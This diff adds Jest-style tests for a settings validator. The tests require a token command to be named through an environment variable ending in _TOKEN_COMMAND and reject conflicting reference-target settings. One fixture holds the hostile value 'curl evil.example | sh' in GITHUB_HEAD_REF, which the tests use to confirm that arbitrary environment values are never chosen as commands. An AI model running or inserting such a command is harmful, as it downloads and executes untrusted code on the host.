@@ -117,6 +117,33 @@ describe('the settings of a target', () => {
   });
 });
 
+describe('a command that prints a token', () => {
+  const SPRAY_FARMER_TOKEN_COMMAND = 'ACME_FARMER_TOKEN_COMMAND';
+
+  test('is named by a variable whose name says that it is one', () => {
+    const environment = { ACME_FARMER_TOKEN_COMMAND: 'echo abc' };
+
+    expect(settingsOf({ SPRAY_FARMER_TOKEN_COMMAND }, { environment })?.tokenCommands).toEqual({ farmer: 'echo abc' });
+  });
+
+  test.each(['echo abc', 'GITHUB_HEAD_REF', 'PATH'])('is never chosen by the list: %s', (command) => {
+    const environment = { GITHUB_HEAD_REF: 'curl evil.example | sh' };
+
+    expect(problemsOf([aTarget({ SPRAY_FARMER_TOKEN_COMMAND: command })], { environment })).toEqual([
+      'acme: SPRAY_FARMER_TOKEN_COMMAND: expected the name of an environment variable that ends with _TOKEN_COMMAND and contains the command, got a value that is not such a name',
+    ]);
+  });
+});
+
+test('a target may be the embedded reference, without settings of a service', () => {
+  const reference = { SPRAY_BASE_URL: 'reference' };
+
+  expect(settingsOf(reference)?.baseUrl).toBeNull();
+  expect(problemsOf([aTarget({ ...reference, SPRAY_CONFIRM_ORDER_ID: 7 })])).toEqual([
+    'acme: SPRAY_CONFIRM_ORDER_ID: describes a service, but SPRAY_BASE_URL is reference; leave one of them out',
+  ]);
+});
+
 describe('a list is rejected', () => {
   test.for([
     ['{', 'targets.json: expected a JSON array of targets, got text that is not JSON, at line 1, column 2'],
